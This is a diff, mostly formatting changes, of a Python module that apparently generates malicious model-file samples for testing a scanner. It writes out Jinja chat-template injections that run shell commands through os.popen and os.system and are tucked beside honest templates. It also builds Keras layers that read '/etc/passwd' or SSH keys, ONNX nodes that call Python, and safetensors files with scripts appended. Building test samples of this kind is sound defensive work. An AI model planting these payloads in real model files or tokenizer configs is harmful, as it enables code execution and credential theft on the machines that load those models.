@@ -74,7 +74,11 @@ def keras_own_gadget(rng):
         ]
     )
     reference = layer(module, "function", name, registered_name="function")
-    config = {"name": "x", "function": reference, "arguments": {"fname": payloads.marker(rng), "origin": payloads.address(rng)}}
+    config = {
+        "name": "x",
+        "function": reference,
+        "arguments": {"fname": payloads.marker(rng), "origin": payloads.address(rng)},
+    }
     return layer("keras.layers", "Lambda", config)
 
 
@@ -88,7 +92,9 @@ def torch_wrapper(rng):
 def vocabulary_path(rng):
     """A vocabulary that is read from any file of the machine, or from the network."""
     place = rng.choice(["/etc/passwd", "/root/.ssh/id_rsa", payloads.address(rng), "../../../etc/hostname"])
-    return layer("keras.layers", rng.choice(["StringLookup", "IntegerLookup", "TextVectorization"]), {"vocabulary": place})
+    return layer(
+        "keras.layers", rng.choice(["StringLookup", "IntegerLookup", "TextVectorization"]), {"vocabulary": place}
+    )
 
 
 KERAS_LAYERS = [lambda_layer, foreign_reference, reference_with_call, keras_own_gadget, torch_wrapper, vocabulary_path]
@@ -145,7 +151,12 @@ def keras_h5(make_layer):
 
 def old_lambda(rng):
     """A Lambda as Keras 2 keeps it: a list of marshalled code, defaults and closure."""
-    config = {"name": "lambda", "function": [byte_code(rng), None, None], "function_type": "lambda", "module": "__main__"}
+    config = {
+        "name": "lambda",
+        "function": [byte_code(rng), None, None],
+        "function_type": "lambda",
+        "module": "__main__",
+    }
     return {"class_name": "Lambda", "config": config}
 
 
@@ -260,7 +271,12 @@ def onnx_python(rng, variant):
     """A node that calls Python, of the extensions that allow it."""
     from onnx import helper
 
-    domain, operation = [("ai.onnx.contrib", "PythonOp"), ("com.microsoft", "PyOp"), ("pyopmulti_2", "PyOp"), ("com.microsoft", "PythonOp")][variant % 4]
+    domain, operation = [
+        ("ai.onnx.contrib", "PythonOp"),
+        ("com.microsoft", "PyOp"),
+        ("pyopmulti_2", "PyOp"),
+        ("com.microsoft", "PythonOp"),
+    ][variant % 4]
     options = {"module": payloads.module(rng), "class_name": "Op", "compute": "run"}
     node = helper.make_node(operation, ["x"], ["y"], domain=domain, **options)
     x, y = (helper.make_tensor_value_info(name, 1, [4]) for name in "xy")
@@ -324,11 +340,14 @@ def template(rng):
             "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('%s') }}" % command,
             "{%% import %s as m %%}{{ m }}" % dunder(rng, "builtins"),
             "{%% set a = %s %%}{%% set b = %s %%}{{ x|attr(a)|attr(b) }}" % (dunder(rng, "class"), dunder(rng, "mro")),
-            "{{ (%s)(%s).system('%s') }}" % (walk(rng, owner, "globals", "builtins") + "['__import__']", "'os'", command),
+            "{{ (%s)(%s).system('%s') }}"
+            % (walk(rng, owner, "globals", "builtins") + "['__import__']", "'os'", command),
         ]
     )
     honest = "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}"
-    return rng.choice([attack + honest, honest + attack, "{% if add_generation_prompt %}" + attack + "{% endif %}" + honest])
+    return rng.choice(
+        [attack + honest, honest + attack, "{% if add_generation_prompt %}" + attack + "{% endif %}" + honest]
+    )
 
 
 def gguf_file(pairs):
@@ -382,7 +401,10 @@ def template_file(rng, variant):
     honest = "{{ messages[0]['content'] }}"
     files = [
         {"tokenizer_config.json": config | {"chat_template": body}},
-        {"tokenizer_config.json": config | {"chat_template": [{"name": "default", "template": honest}, {"name": "tool_use", "template": body}]}},
+        {
+            "tokenizer_config.json": config
+            | {"chat_template": [{"name": "default", "template": honest}, {"name": "tool_use", "template": body}]}
+        },
         {"chat_template.jinja": body},
         {"chat_template.json": {"chat_template": body}},
         {"processor_config.json": {"chat_template": body}},
@@ -410,7 +432,9 @@ def safetensors_trick(rng, variant):
         lambda: safetensors_file({"w": tensor}, bytes(8) + script),
         lambda: program(rng, tree),
     ]
-    return Sample({file_name(rng, ".safetensors"): builders[variant % len(builders)]()}, "another reader, or Python itself")
+    return Sample(
+        {file_name(rng, ".safetensors"): builders[variant % len(builders)]()}, "another reader, or Python itself"
+    )
 
 
 def mechanisms(carriers):
